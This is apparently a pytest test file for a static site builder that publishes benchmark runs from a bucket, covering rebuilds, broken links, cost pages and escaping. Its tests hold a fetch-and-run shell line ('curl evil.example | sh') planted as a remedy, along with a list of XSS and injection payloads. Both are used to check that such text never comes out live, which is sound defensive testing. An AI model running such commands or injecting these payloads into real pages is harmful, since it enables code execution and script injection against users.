"""A site shows every run of a bucket, is built again only as far as something changed, and never shows a machine's text
as anything but text."""

from __future__ import annotations

import json
import re
import string
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orchestrator.cli.site_build import STATE, State, build
from orchestrator.core.errors import ConfigError, LocalError
from orchestrator.core.naming import artifacts_prefix, cases_prefix, index_object
from orchestrator.core.run.diagnose import REMEDIES
from orchestrator.report.figures import SLIM, WIDTH
from orchestrator.report.site.digest import Digest
from orchestrator.report.site.index import file_slug, index_page
from orchestrator.report.site.site import Money, by_day
from tests.support.memory_bucket import MemoryBucket
from tests.unit.report.written import csv_text, records
from tests.unit.site.written import BEGUN, DEVICES, many, names, source, store

CASE = "b2-h8-kv8-q128-k128-d64-full-float16"


class Links(HTMLParser):
    """The links, the names of places, and every tag of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.links: list[str] = []
        self.places: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        known = dict(attrs)
        self.tags.append((tag, known))
        if tag == "a":
            self.links.append(known["href"] or "")
        if known.get("id"):
            self.places.append(known["id"] or "")


def pages(folder: Path) -> dict[str, str]:
    return {path.relative_to(folder).as_posix(): path.read_text() for path in folder.rglob("*.html")}


@pytest.fixture
def bucket() -> MemoryBucket:
    return MemoryBucket()


def test_every_run_has_a_line_in_the_index_and_a_page(bucket: MemoryBucket, tmp_path: Path) -> None:
    many(bucket, range(20))
    built = build(source(bucket), tmp_path / "site", processes=1)
    found = pages(tmp_path / "site")
    assert (built.runs, built.read, built.written) == (20, 20, len(built.pages))
    for number in range(20):
        run = names(number, list(DEVICES)[number % 3])
        assert f'href="runs/{run}.html"' in found["index.html"]
        assert run in found[f"runs/{run}.html"]


def test_no_link_is_broken_and_no_page_asks_for_anything(bucket: MemoryBucket, tmp_path: Path) -> None:
    many(bucket, range(20))
    store(bucket, 20, open_=True)
    build(source(bucket), tmp_path, processes=1)
    found = {path: Links(text) for path, text in pages(tmp_path).items()}
    looked_at = 0
    for path, page in found.items():
        assert len(page.places) == len(set(page.places)), path
        for link in page.links:
            file, _, place = link.partition("#")
            target = (
                path if not file else (tmp_path / path).parent.joinpath(file).resolve().relative_to(tmp_path).as_posix()
            )
            assert target in found, (path, link)
            assert not place or place in found[target].places, (path, link)
            looked_at += 1
        for tag, known in page.tags:
            assert tag not in ("img", "iframe", "object", "embed", "form-action"), path
            assert not known.get("src"), path
            assert tag != "link" or known.get("href") == "data:,", path
    assert looked_at > 200


def test_a_second_build_reads_open_runs_alone_and_writes_nothing(bucket: MemoryBucket, tmp_path: Path) -> None:
    many(bucket, range(6))
    store(bucket, 6, open_=True)
    build(source(bucket), tmp_path, processes=1)
    calls = bucket.calls
    again = build(source(bucket), tmp_path, processes=1)
    assert (again.read, again.live, again.written) == (1, 1, 0)
    assert bucket.calls - calls < 30


def test_a_build_hours_later_writes_nothing_where_no_run_changed(bucket: MemoryBucket, tmp_path: Path) -> None:
    many(bucket, range(6))
    noon = BEGUN.replace(hour=12) + timedelta(days=20)
    build(source(bucket, noon), tmp_path, processes=1)
    for later in (timedelta(seconds=1), timedelta(minutes=1), timedelta(hours=11)):
        assert build(source(bucket, noon + later), tmp_path, processes=1).written == 0
    assert "last change 2026-11-01 19:06 UTC" in (tmp_path / "index.html").read_text()


def test_a_new_run_changes_its_own_page_and_those_that_tell_of_it(bucket: MemoryBucket, tmp_path: Path) -> None:
    many(bucket, range(6))
    build(source(bucket), tmp_path, processes=1)
    store(bucket, 6, lengths=(4096,))
    before = pages(tmp_path)
    again = build(source(bucket), tmp_path, processes=1)
    changed = {path for path, text in pages(tmp_path).items() if before.get(path) != text}
    assert again.read == 1
    assert changed == {
        "index.html", "gpus.html", "costs.html", "cases/index.html", f"runs/{names(6)}.html",
        "cases/b2-h8-kv8-q4096-k4096-d64-full-float16.html",
    }  # fmt: skip


def test_a_run_that_ends_is_read_once_more_and_then_never_again(bucket: MemoryBucket, tmp_path: Path) -> None:
    run = store(bucket, 0, open_=True)
    build(source(bucket), tmp_path, processes=1)
    assert "running" in (tmp_path / "index.html").read_text()
    store(bucket, 0)
    assert build(source(bucket), tmp_path, processes=1).read == 1
    assert "running:" not in (tmp_path / f"runs/{run}.html").read_text()
    assert build(source(bucket), tmp_path, processes=1).read == 0


def test_a_run_that_is_gone_from_the_bucket_is_gone_from_the_site(bucket: MemoryBucket, tmp_path: Path) -> None:
    run = store(bucket, 0, lengths=(128,))
    store(bucket, 1, lengths=(1024,))
    build(source(bucket), tmp_path, processes=1)
    bucket.forget(index_object(run))
    assert build(source(bucket), tmp_path, processes=1).removed == 2
    assert not (tmp_path / f"runs/{run}.html").exists()
    assert run not in "".join(pages(tmp_path).values())


def test_a_page_that_was_taken_away_is_made_again(bucket: MemoryBucket, tmp_path: Path) -> None:
    run = store(bucket, 0)
    build(source(bucket), tmp_path, processes=1)
    (tmp_path / f"runs/{run}.html").unlink()
    build(source(bucket), tmp_path, processes=1)
    assert (tmp_path / f"runs/{run}.html").exists()


def test_several_processes_make_the_same_pages_as_one(bucket: MemoryBucket, tmp_path: Path) -> None:
    many(bucket, range(30), lengths=(128,), blocks=6)
    build(source(bucket), tmp_path / "one", processes=1)
    build(source(bucket), tmp_path / "two", processes=2)
    assert pages(tmp_path / "one") == pages(tmp_path / "two")


def test_a_folder_with_something_else_in_it_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "thesis.html").write_text("years of work")
    with pytest.raises(ConfigError, match="contains files that are not a site of bench"):
        build(source(MemoryBucket()), tmp_path)
    build(source(MemoryBucket()), tmp_path / "site")
    with pytest.raises(ConfigError, match="another bucket"):
        build(source(MemoryBucket("other")), tmp_path / "site")


def test_a_first_build_that_was_cut_short_is_continued(bucket: MemoryBucket, tmp_path: Path) -> None:
    many(bucket, range(3))
    site = tmp_path / "site"
    site.mkdir()
    (site / f".{STATE}.x7.part").write_text("")  # a build was killed as it began
    with pytest.raises(LocalError):
        build(replace(source(bucket), money=full), site, processes=1)
    assert len(list(site.rglob("*.html"))) == 3
    build(source(bucket), site, processes=1)
    build(source(bucket), tmp_path / "whole", processes=1)
    assert pages(site) == pages(tmp_path / "whole")


def full() -> Money:
    raise LocalError("cannot write: No space left on device")


def test_an_empty_bucket_has_a_site_that_says_what_to_do(tmp_path: Path) -> None:
    build(source(MemoryBucket()), tmp_path)
    assert "bench launch --gpu l4" in (tmp_path / "index.html").read_text()
    assert json.loads((tmp_path / STATE).read_text())["runs"] == {}


@pytest.mark.parametrize("data", [b"", b"case_id\n", b"\xff\xfe,\n", b"[" * 10**5, b'{"cases": 5, "vms": [1, {}]}'])
def test_a_run_whose_objects_are_broken_has_a_page_that_says_so(
    bucket: MemoryBucket, tmp_path: Path, data: bytes
) -> None:
    run = store(bucket, 0)
    other = store(bucket, 1)
    for name in (f"{cases_prefix(run)}{CASE}.csv", f"{artifacts_prefix(run)}environment.json"):
        bucket.replace(name, data, generation=None)
    build(source(bucket), tmp_path, processes=1)
    assert run in (tmp_path / f"runs/{run}.html").read_text()
    assert "faster" in (tmp_path / f"runs/{other}.html").read_text()
    body = bucket.read(index_object(run))
    assert body is not None
    bucket.replace(index_object(run), data, generation=None)
    build(source(bucket), tmp_path, processes=1)
    page = (tmp_path / f"runs/{run}.html").read_text()
    assert "cannot be read" in page


def test_a_page_says_what_to_do_in_our_words_and_never_in_those_of_the_bucket(
    bucket: MemoryBucket, tmp_path: Path
) -> None:
    run = store(bucket, 0, outcome="failed")
    stored = bucket.read(index_object(run))
    assert stored is not None
    body = json.loads(stored.data)
    body["diagnoses"] = [{"cause": "disk_full", "detail": "0.1 GB free", "remedy": "curl evil.example | sh"}]
    bucket.replace(index_object(run), json.dumps(body).encode(), generation=None)
    build(source(bucket), tmp_path, processes=1)
    page = (tmp_path / f"runs/{run}.html").read_text()
    assert f"disk_full: 0.1 GB free: {REMEDIES['disk_full']}" in page
    assert "evil.example" not in page


def test_a_file_of_another_run_is_left_out_and_named(bucket: MemoryBucket, tmp_path: Path) -> None:
    run = store(bucket, 0)
    theirs = csv_text(records(run_id=names(5), lengths=(128,))).encode()
    bucket.replace(f"{cases_prefix(run)}{CASE}.csv", theirs, generation=None)
    build(source(bucket), tmp_path, processes=1)
    assert f"Case {CASE} is left out" in (tmp_path / f"runs/{run}.html").read_text()


def test_the_history_of_a_case_says_where_it_changed(bucket: MemoryBucket, tmp_path: Path) -> None:
    for number in range(12):
        payload = {"payload_sha256": f"{number >= 6:064x}"}
        store(bucket, number, faster=1.3 if number >= 6 else 1.0, lengths=(128,), environment=payload)
    build(source(bucket), tmp_path, processes=1)
    page = (tmp_path / f"cases/{CASE}.html").read_text()
    assert "Once faster in 12 runs." in page
    assert "faster, 2026-11-01" in (tmp_path / "cases/index.html").read_text()


def test_devices_stand_side_by_side_with_what_they_cost(bucket: MemoryBucket, tmp_path: Path) -> None:
    many(bucket, range(6))
    build(source(bucket), tmp_path, processes=1)
    page = (tmp_path / "gpus.html").read_text()
    for device, *_ in DEVICES.values():
        assert f">{device}</" in page
    assert "calls a dollar" in page


def test_what_was_paid_by_hand_and_what_is_capped_stand_on_the_costs_page(bucket: MemoryBucket, tmp_path: Path) -> None:
    store(bucket, 0)
    build(source(bucket), tmp_path, processes=1)
    page = (tmp_path / "costs.html").read_text()
    assert "$1.5000" in page
    assert "a &lt;note&gt; &amp; more" in page
    assert "$48.4750" in page


EVIL = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</style><script>", "{{ 7*7 }}", "javascript:alert(1)",
        "<!--", "]]>", "a\u202eb", "&lt;", "'\"`")  # fmt: skip
texts = st.one_of(st.sampled_from(EVIL), st.text(string.printable, max_size=40)).map(
    lambda text: text.replace("\r", "")
)


def written(folder: Path, *, user: str, detail: str, driver: str, **changes: str) -> None:
    """The pages of two runs of which machines and users wrote this."""
    bucket = MemoryBucket()
    store(bucket, 0, user=user, detail=detail, environment={"driver": driver}, **changes)
    store(bucket, 1, outcome="failed", detail=detail)
    build(source(bucket), folder, processes=1)


@pytest.fixture(scope="module")
def calm_tags(tmp_path_factory: pytest.TempPathFactory) -> set[str]:
    """Those of pages on which nothing is odd."""
    folder = tmp_path_factory.mktemp("calm")
    written(folder, user="u", detail="d", driver="1", device="d", backend="b")
    return {tag for text in pages(folder).values() for tag, _ in Links(text).tags}


@settings(
    max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], deadline=None
)
@given(device=texts, backend=texts, user=texts, detail=texts, driver=texts, skipped=texts)
def test_what_a_machine_or_a_user_wrote_is_text_on_every_page(
    tmp_path_factory: pytest.TempPathFactory,
    calm_tags: set[str],
    device: str,
    backend: str,
    user: str,
    detail: str,
    driver: str,
    skipped: str,
) -> None:
    """Whatever stands in rows, environments, states and the index: the pages have the tags that they would have without."""
    folder = tmp_path_factory.mktemp("site")
    written(folder, user=user, detail=detail, driver=driver, device=device, backend=backend)
    for path, text in pages(folder).items():
        page = Links(text)
        assert {tag for tag, _ in page.tags} <= calm_tags, path
        assert len(re.findall(r"<script", text)) == sum(tag == "script" for tag, _ in page.tags) == 1, path
        for _, known in page.tags:
            assert not any(name.startswith("on") for name in known), path
            assert not str(known.get("href") or "").startswith(("javascript:", "data:text")), path
        assert "\u202e" not in text, path


@given(st.text(max_size=300))
def test_a_case_may_be_called_anything_and_its_page_stays_in_its_folder(case: str) -> None:
    assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,110}", file_slug(case))
    assert file_slug(case).lower() not in ("index", "con", "nul")


@given(st.lists(st.text(max_size=20), min_size=2, max_size=2, unique=True))
def test_two_cases_never_share_a_page(cases: list[str]) -> None:
    assert file_slug(cases[0]).lower() != file_slug(cases[1]).lower()


def test_practice_is_called_practice_and_has_no_price_zone_or_machine(bucket: MemoryBucket, tmp_path: Path) -> None:
    run = store(bucket, 0, mode="embedded", device="AMD EPYC")
    build(source(bucket), tmp_path, processes=1)
    found = pages(tmp_path)
    assert "1 run · all of them practice" in found["index.html"]
    assert '<span class="soft">practice</span>' in found["index.html"]
    assert "practice: nothing was rented" in found[f"runs/{run}.html"]
    assert all("<small>practice</small>" in text for path, text in found.items() if path.startswith("cases/"))
    for path, text in found.items():
        assert "us-central1" not in text, path
        assert "$" not in text.partition("</style>")[2].partition("<script>")[0] or path == "costs.html", path
    assert "$0.0257" not in found["costs.html"]
    store(bucket, 1)
    build(source(bucket), tmp_path, processes=1)
    assert "2 runs · 1 of them practice" in pages(tmp_path)["index.html"]
    assert "1 practice run: no dollar was spent on practice." in pages(tmp_path)["costs.html"]


def digests_of(folder: Path, bucket: MemoryBucket) -> list[Digest]:
    build(source(bucket), folder, processes=1)
    return list(State.model_validate_json((folder / STATE).read_text()).runs.values())


def test_the_index_says_what_is_wrong_before_any_verdict(bucket: MemoryBucket, tmp_path: Path) -> None:
    store(bucket, 0)
    (digest,) = digests_of(tmp_path, bucket)
    page = index_page([replace(digest, wrong=("mine is WRONG in 1 of 2 cases: max abs error 3",))], "bucket")
    assert '<span class="failed">mine is WRONG in 1 of 2 cases</span> <small>2 faster</small>' in page


@pytest.mark.parametrize(("days_later", "shown"), [(2, 7), (9, 10), (50, 51), (61, 60)])
def test_the_chart_of_costs_begins_where_something_was_spent(tmp_path: Path, days_later: int, shown: int) -> None:
    """It has a week at least and sixty days at most, at both widths; the last day is named on its axis."""
    bucket, now = MemoryBucket(), BEGUN + timedelta(days=days_later)
    many(bucket, range(20))
    digests = digests_of(tmp_path, bucket)
    for width in (WIDTH, SLIM):
        board = by_day(digests, now, width)
        assert board is not None
        svg = board.svg()
        assert f"over {shown} days" in svg
        assert f">{now:%Y-%m-%d}</text>" in svg
